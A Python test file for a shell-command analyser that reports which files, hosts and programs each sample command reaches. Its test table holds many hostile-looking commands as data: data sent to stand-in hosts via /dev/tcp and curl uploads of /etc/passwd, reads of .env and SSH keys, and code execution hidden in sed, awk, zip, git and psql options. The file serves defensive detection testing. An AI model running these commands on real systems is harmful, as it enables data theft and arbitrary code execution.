"""What a command reaches is seen however it is written: files, hosts, other programs, code."""

from __future__ import annotations

import time

import pytest
from operation_samples import CWD, requests


def reach(text: str) -> set[str]:
    """Everything a command does, in short: ``w:PATH``, ``r:PATH``, ``net:HOST`` (``?`` if not known), ``run:NAME``,
    ``run:sh!`` for code that is not read.
    """
    found: set[str] = set()
    for each in requests(text):
        found.add(f"run:{each.command.basename}" if each.command else f"run:{each.kind}!")
        found |= {
            f"run:{leaf.removeprefix('op:')}!" for leaf in each.leaves if not leaf.startswith("op:cmd:")
        }
        found |= {f"{mode}:{path.replace(CWD, '.') or '?'}" for mode, path in each.paths}
        found |= {f"net:{host or '?'}" for host in each.hosts}
    return found


SEEN = [
    # An option that no table knows: its value is what its name says, attached or apart
    ("frobnicate -o /etc/x", "w:/etc/x"), ("frobnicate --output /etc/x", "w:/etc/x"), ("frobnicate --output=/etc/x", "w:/etc/x"),
    ("grep --out-file /etc/x a b", "w:/etc/x"), ("frobnicate --write AGENTS.md", "w:./AGENTS.md"), ("frobnicate --junitxml=/etc/x", "w:/etc/x"),
    # A directory that is gone into holds for what stands before it too, but for tar only for what follows
    ("patch -o x.out -d /etc -i a", "w:/etc/x.out"), ("patch -i a -d /etc", "r:/etc/a"), ("make -f x.mk -C /etc", "r:/etc/x.mk"),
    ("tar -C src -cf a.tar .", "w:./a.tar"), ("tar cf a.tar notes.md -C src a.py", "r:./notes.md"), ("tar cf a.tar notes.md -C src a.py", "r:./src/a.py"),
    ("tar -C src -xf a.tar", "w:./src"), ("tar -C src -X no.txt -cf a.tar .", "r:./no.txt"), ("tar -C src -g snap -cf a.tar .", "w:./snap"),
    ("tar xf a.tar one -C /etc two", "w:/etc"), ("tar xf a.tar one -C /etc two", "w:."),
    ("tar xPf a.tar", "w:?"), ("tar -x --absolute-names -f a.tar", "w:?"), ("tar cf a.tar --remove-files src", "w:./src"), ("bsdtar -cf a.tar @/etc/passwd", "r:/etc/passwd"),
    # A directory as a target: what is written is the file of the same name in it
    ("cp a/.bashrc /home/user", "w:/home/user/.bashrc"), ("cp a/x b/y out", "w:/etc/x"), ("mv AGENTS.md src", "w:./src/AGENTS.md"), ("install -t src a/x", "w:./src/x"),
    ("ln -s /a/x src/", "w:./src/x"), ("cp -t /home/user a/.profile", "w:/home/user/.profile"), ("cp a/x new/", "w:./new/x"),
    ("cp a b new", "w:./new/a"), ("ln -t src /home/user/.ssh/id_rsa", "w:/home/user/.ssh/id_rsa"), ("cp -l /etc/passwd x", "w:/etc/passwd"),
    ("cp -al /etc x", "w:/etc"),
    # Files that are written, or read, besides
    ("xxd a /etc/x", "w:/etc/x"), ("tree -o /etc/x a", "w:/etc/x"), ("sort --files0-from=list", "r:?"), ("wc --files0-from=list", "r:?"), ("du --files0-from list", "r:?"),
    ("xz --files=list", "w:?"), ("file -C -m /etc/magic", "w:."), ("cpio -id", "w:?"), ("cpio -o", "r:?"), ("7z x a.7z", "w:."), ("7z x -o/etc a.7z", "w:/etc"), ("rsync -a --remove-source-files src/ dst/", "w:./src"),
    ("rsync --link-dest=/etc a b", "w:/etc"), ("zip -m a.zip src", "w:./src"), ("zip -TT'touch y' -T a.zip b", "run:touch"), ("zip -T -TTtouch a.zip b", "run:touch"), ("zip -qTTtouch a.zip b", "run:touch"),
    ("zip -O /etc/x a.zip b", "w:/etc/x"), ("zip -lf /etc/x a.zip b", "w:/etc/x"), ("zip -lf/etc/x a.zip b", "w:/etc/x"), ("zip -@ a.zip", "r:?"), ("zip a.zip . -i@/etc/passwd", "r:/etc/passwd"),
    ("perl -pi -e s/a/b/ x", "w:./x"), ("perl -i.bak -pe s/a/b/ x", "w:./x"), ("ruby -pi -e x y", "w:./y"), ("python3 -m json.tool a /etc/x", "w:/etc/x"),
    ("grep -r x", "r:."), ("grep -rn -e x", "r:."), ("grep -d recurse x", "r:."), ("grep --directories=recurse x", "r:."), ("rg x", "r:."), ("rg --files", "r:."), ("git grep --no-index x /etc", "r:/etc"),
    # sed and awk
    ("sed 's/[^]/]/ #/e' a", "run:sh!"), ("sed 's/[[:alpha:]/]/ #/e' a", "run:sh!"), ("sed '/[^]/]/ e touch' a", "run:sh!"), ("sed 'a x\\\\\ne touch y' a", "run:sh!"),
    ("awk 'BEGIN{x=0?y:system(\"touch\")}'", "run:sh!"), ("awk 'BEGIN{awk::system(\"touch\")}'", "run:sh!"), ("awk 'BEGIN{x = getline / system(\"touch\") / 2}'", "run:sh!"),
    ("awk 'BEGIN{if (1) /\"/; system(\"touch y\") # \"\n}'", "run:sh!"), ("awk 'BEGIN{getline x[\"a\"] < \"/etc/passwd\"; print}'", "r:/etc/passwd"), ("awk 'BEGIN{getline $1 < \"/etc/passwd\"}'", "r:/etc/passwd"),
    ("awk '{print a,\n b > \"/etc/x\"}'", "w:/etc/x"), ("awk '{print a \\\n > \"/etc/x\"}'", "w:/etc/x"), ("awk '{print > \"/inet/tcp/0/c.d/80\"}'", "net:?"), ("awk '{print > f}'", "net:?"),
    ("gawk -D x a", "run:sh!"), ("awk 'BEGIN { while (x) /\"/; system(\"t\") #\"\n}'", "run:sh!"), ("awk 'BEGIN { for (;;) /\"/; system(\"t\") #\"\n}'", "run:sh!"),
    ("awk 'BEGIN { if (x) print; else /\"/; system(\"t\") #\"\n}'", "run:sh!"), ("awk 'BEGIN { do /\"/; while (system(\"t\")) #\"\n}'", "run:sh!"), ("awk 'BEGIN { print length /\"/; system(\"t\") #\"\n}'", "run:sh!"),
    ("awk 'BEGIN { x = a ~ /\"/; system(\"t\") #\"\n}'", "run:sh!"), ("awk 'BEGIN { if ((x)) /\"/; system(\"t\") #\"\n}'", "run:sh!"), ("awk '{ f(x) }\n/\"/ { system(\"t\") } # \"'", "run:sh!"),
    ("awk '(x)\n/\"/ { system(\"t\") } # \"'", "run:sh!"), ("awk 'BEGIN { x = a[1]\n/\"/; system(\"t\") # \"\n}'", "run:sh!"), ("awk 'BEGIN { x++\n/\"/; system(\"t\") # \"\n}'", "run:sh!"), ("awk 'BEGIN { x = 1\n/\"/; system(\"t\") # \"\n}'", "run:sh!"),
    ("sed '$!{a x\\\\\ne touch y\n}' a", "run:sh!"),
    # jq, yq, xmllint, mlr, ugrep
    ("jq -n 'import \"data\" as $d {search:\"/etc\"}; $d'", "r:?"), ("jq 'include \"x\"; .' a", "r:?"), ("yq 'load(\"/etc/passwd\")' a", "r:?"), ("yq e 'load_str(\"/etc/passwd\")' a", "r:?"),
    ("yq -s .x a", "w:?"), ("yq -s . notes.md", "r:./notes.md"), ("mlr --prepipe 'touch y' cat a", "run:touch"), ("mlr put 'system(\"x\")' a", "run:sh!"), ("xmllint --output /etc/x a", "w:/etc/x"), ("xmllint --shell a", "run:sh!"), ("xmllint --noent a", "r:?"),
    ("ugrep --filter='*:touch %' x", "run:sh!"), ("ugrep --view=touch x", "run:sh!"),
    # curl, wget, http
    ("curl -F 'x=@\"/etc/passwd\"' http://a.b", "r:?"), ("curl -F 'x=@/etc/passwd;type=a/b' http://a.b", "r:/etc/passwd"), ("curl -F 'x=@a,/etc/passwd' http://a.b", "r:?"),
    ("curl -F 'x=hi;headers=@/etc/passwd' http://a.b", "r:?"), ("curl -F 'x=@a; HEADERS = @/etc/passwd' http://a.b", "r:?"), ("curl --variable x@/etc/passwd http://a.b", "r:/etc/passwd"),
    ("curl -o '#1' 'http://a.b/{x}'", "w:?"), ("curl --ssl-sessions /etc/x http://a.b", "w:/etc/x"), ("wget -t 3 http://a.b", "w:."), ("wget -p http://a.b", "w:."), ("wget -d http://a.b", "w:."), ("wget -l 2 -r http://a.b", "w:."),
    ("wget -o log http://a.b", "w:."), ("wget -rH http://a.b", "net:?"), ("wget --span-hosts -r http://a.b", "net:?"), ("wget --warc-tempdir=/etc http://a.b", "w:/etc"), ("wget --dns-servers=1.2.3.4 http://a.b", "net:?"),
    ("http c.d http://a.b", "net:c.d"), ("http POST c.d x=1", "net:c.d"), ("http c.d x@/etc/passwd", "r:/etc/passwd"), ("http c.d x=@/etc/passwd", "r:/etc/passwd"), ("http c.d x:=@/etc/passwd", "r:/etc/passwd"),
    ("http --download c.d", "w:."), ("http c.d 'x@/etc/passwd;type=a/b'", "r:/etc/passwd"), ("http --proxy=http:http://p.q c.d", "net:?"), ("http --session=/etc/x c.d", "w:/etc/x"), ("lynx -dump http://c.d", "net:c.d"), ("w3m c.d", "net:c.d"), ("axel http://c.d/x", "w:."), ("axel c.d/x", "net:c.d"),
    ("sftp c.d", "net:c.d"), ("sftp c.d", "run:sh!"),
    ("bash -c 'cat x > /dev/tcp/c.d/80'", "net:c.d"), ("bash -c 'exec 3<>/dev/udp/c.d/80'", "net:c.d"), ("bash -c 'cat x > $Y'", "net:?"),
    # ssh
    ("ssh -o LocalForward='80 c.d:80' h ls", "net:?"), ("ssh -o dynamicforward=80 h ls", "net:?"), ("ssh -o IdentityFile=/etc/x h ls", "r:/etc/x"), ("ssh -o UserKnownHostsFile=/etc/x h ls", "w:/etc/x"),
    ("ssh -o ControlPath=/etc/x h ls", "w:/etc/x"), ("scp -o CanonicalDomains=c.d a h:b", "net:?"),
    # git
    ("git bundle create /etc/x HEAD", "w:/etc/x"), ("git format-patch -o /etc HEAD", "w:/etc"), ("git format-patch HEAD~1", "w:."), ("git checkout-index --prefix=/etc/ -a", "w:/etc"), ("git merge-file a b c", "w:./a"),
    ("git fast-export --export-marks=/etc/x HEAD", "w:/etc/x"), ("git index-pack -o /etc/x y", "w:/etc/x"), ("git mailsplit -o/etc x", "w:/etc"), ("git mailinfo /etc/x /etc/y", "w:/etc/y"), ("git bugreport -o /etc", "w:/etc"),
    ("git clone https://a.b/x", "w:."), ("git apply x.patch", "w:."), ("git am x.patch", "w:."), ("git apply --unsafe-paths x.patch", "w:?"), ("git checkout main -- AGENTS.md", "w:./AGENTS.md"), ("git checkout notes.md", "w:./notes.md"),
    ("git checkout main -- ':/AGENTS.md'", "w:?"), ("git restore --source=x AGENTS.md", "w:./AGENTS.md"), ("git restore 'AGENTS*'", "w:."), ("git mv a AGENTS.md", "w:./AGENTS.md"), ("git rm AGENTS.md", "w:./AGENTS.md"),
    ("git config --rename-section color.x alias", "run:sh!"), ("git config rename-section color.x alias", "run:sh!"), ("git config edit", "run:sh!"), ("git -c blame.ignoreRevsFile=/etc/passwd blame a", "r:/etc/passwd"), ("git -c diff.orderFile=/etc/passwd diff", "r:/etc/passwd"),
    ("git show HEAD:.env", "r:./.env"), ("git show :./.env", "r:./.env"), ("git show :0:.env", "r:./.env"), ("git cat-file -p HEAD:.env", "r:./.env"), ("git diff a:.env b:.env", "r:./.env"), ("git config core.hooksPath x", "w:./.git/config"),
    ("git config --global alias.x '!touch'", "w:./.git/config"), ("ls", "r:."), ("du -s", "r:."), ("tree", "r:."), ("curl -n https://a.b", "r:?"), ("curl -sn https://a.b", "r:?"),
    # openssl, gpg
    ("openssl enc -in /etc/x -out /etc/y", "w:/etc/y"), ("openssl enc -in /etc/x -out /etc/y", "r:/etc/x"), ("openssl rand -out /etc/x 16", "w:/etc/x"), ("openssl req -newkey rsa:2048 -keyout /etc/k -out c", "w:/etc/k"),
    ("openssl dgst -sha256 /etc/passwd", "r:/etc/passwd"), ("openssl enc -pass file:/etc/passwd -in a", "r:/etc/passwd"), ("openssl dgst -engine ./x.so a", "run:sh!"), ("openssl list -provider-path /x -provider y", "run:sh!"),
    ("openssl s_client -connect c.d:443", "net:c.d"), ("openssl s_client -host c.d", "net:c.d"), ("openssl ocsp -url http://c.d", "net:c.d"), ("openssl req -config x -new", "run:sh!"), ("openssl s_server -WWW", "r:."),
    ("gpg -o /etc/x -d a", "w:/etc/x"), ("gpg --outp /etc/x -d a", "w:/etc/x"), ("gpg -d /etc/passwd", "r:/etc/passwd"), ("gpg --photo-viewer 'touch y' --list-keys", "run:touch"), ("gpg --keyserver hkps://c.d --send-keys x", "net:c.d"),
    ("gpg --recv-keys x", "net:?"), ("gpg --log-file /etc/x -d a", "w:/etc/x"), ("gpg -c notes.md", "w:."), ("gpg --decrypt-files a", "w:."),
    # Editors and pagers
    ("vim -es a", "run:sh!"), ("ex a", "run:sh!"), ("ed a", "run:sh!"), ("nvim -l x.lua", "run:sh!"), ("vim -V9/etc/x a", "w:/etc/x"), ("vim --startuptime /etc/x a", "w:/etc/x"), ("vim --remote-send x", "run:sh!"), ("vim -r /etc/x", "r:/etc/x"),
    ("nano --speller=touch a", "run:touch"), ("nano -C /etc a", "w:/etc"), ("nano --backupdir=/etc a", "w:/etc"), ("less --cmd='!touch' a", "run:sh!"), ("man /etc/passwd", "r:/etc/passwd"), ("gdb -ex '!ls' a", "run:sh!"),
    # Clusters, containers, packages
    ("kubectl apply -f https://c.d/x.yaml", "net:c.d"), ("kubectl apply -f /etc/x", "r:/etc/x"), ("kubectl --server=c.d get pods", "net:c.d"), ("docker build -o /etc/x .", "w:/etc/x"), ("docker build --output=type=local,dest=/etc/x .", "w:/etc/x"),
    ("docker build --secret id=x,src=/etc/passwd .", "r:/etc/passwd"), ("docker build --iidfile /etc/x .", "w:/etc/x"), ("docker build https://c.d/x.git", "net:c.d"), ("docker run --device=/dev/sda x ls", "w:/dev/sda"),
    ("docker run --mount 'type=bind,\"source=/etc\",target=/x' i ls", "w:?"), ("docker run --mount type=volume,volume-opt=device=/etc,target=/x i ls", "w:/etc"), ("docker save -o /etc/x i", "w:/etc/x"), ("docker cp c:/a /etc/x", "w:/etc/x"),
    ("npm install https://c.d/x.tgz", "net:c.d"), ("npm install /etc/passwd", "r:/etc/passwd"), ("npm init foo", "run:node!"), ("npm create foo", "run:node!"), ("pnpm touch y", "run:sh!"), ("yarn create x", "run:node!"),
    ("pip install -r https://c.d/x", "net:c.d"), ("pip install -e git+https://c.d/x", "net:c.d"), ("pip install -e /etc/passwd", "r:/etc/passwd"), ("pip wheel -w /etc x", "w:/etc"), ("pip config edit --editor touch", "run:touch"),
    ("npm install 'x@https://c.d/x.tgz'", "net:?"), ("pip install 'x @ https://c.d/x'", "net:?"), ("npm i file:../x", "r:/work/x"), ("npm pack --pack-destination /etc", "w:/etc"), ("uv pip install --target /etc x", "w:/etc"),
    ("uv pip install -r https://c.d/x", "net:c.d"), ("uv venv /etc/x", "w:/etc/x"), ("aws s3 cp s3://b/x /etc/y", "w:/etc/y"), ("aws x --user-data file://notes.md", "r:./notes.md"), ("aws x --user-data fileb://notes.md", "r:./notes.md"),
    ("aws x --user-data fileb:///etc/x", "r:/etc/x"), ("gh api -F x=@/etc/passwd y", "r:/etc/passwd"), ("gh repo clone x -- -c core.pager=touch", "run:touch"), ("gh alias set x '!touch y'", "run:sh!"), ("gh wip", "run:sh!"), ("gh ext exec x", "run:sh!"),
    ("terraform plan -out=/etc/x", "w:/etc/x"), ("terraform -chdir=/etc plan -out x", "w:/etc/x"), ("go build -o /etc/x", "w:/etc/x"), ("go test -exec 'touch y'", "run:touch"), ("go build -toolexec=touch", "run:touch"), ("rustup run nightly touch y", "run:touch"),
    ("kubectl get pods -o go-template-file=/etc/passwd", "r:/etc/passwd"), ("frobnicate x=@/etc/passwd", "r:/etc/passwd"),
    ("valgrind --leak-check=full touch y", "run:touch"), ("podman unshare touch y", "run:touch"), ("ip netns exec x touch y", "run:touch"), ("logsave /etc/x touch y", "run:touch"), ("chronic touch y", "run:touch"), ("envdir d touch y", "run:touch"),
    ("tini -- touch y", "run:touch"), ("cmake -E env touch y", "run:touch"), ("run-one touch y", "run:touch"), ("runcon x touch y", "run:touch"),
    # Where options end, and languages with a shell inside
    ("watch ls ';touch' -x", "run:touch"), ("watch -n 1 -x ls", "run:ls"), ("watch ls '> /etc/x' --exec", "w:/etc/x"), ("socat 'STDIN!!EXEC:touch y' -", "run:touch"), ("busybox touch y", "run:touch"),
    ("sqlite3 x.db '.shell ls'", "run:sh!"), ("sqlite3 x.db 'select 1; .output /etc/x'", "run:sh!"), ("sqlite3 -cmd '.system ls' x.db", "run:sh!"), ("sqlite3 x.db \"select load_extension('x')\"", "run:sh!"), ("sqlite3 x.db", "w:./x.db"),
    ("psql -c '\\! ls'", "run:sh!"), ("psql -c \"copy a to program 'ls'\"", "run:sh!"), ("mysql -e 'system ls'", "run:sh!"), ("mysql -e \"select 1 into outfile '/etc/x'\"", "run:sh!"),
]  # fmt: skip


def test_what_a_command_reaches_is_seen():
    assert [(text, what) for text, what in SEEN if what not in reach(text)] == []


@pytest.mark.parametrize(
    "text",
    [
        "psql -c 'select 1'",
        "sqlite3 x.db 'select a.b from c'",
        "mysql -e 'show tables'",
        "psql -c 'update a set system = 1'",
        "psql -c 'select program, edit from a'",
    ],
)
def test_plain_queries_start_nothing(text):
    assert "run:sh!" not in reach(text)


def test_a_query_of_many_lines_costs_no_more_than_its_length():
    begun = time.process_time()
    reach("psql -c '" + "\n " * 30_000 + "'")
    assert time.process_time() - begun < 3  # at the square of its length: ten seconds
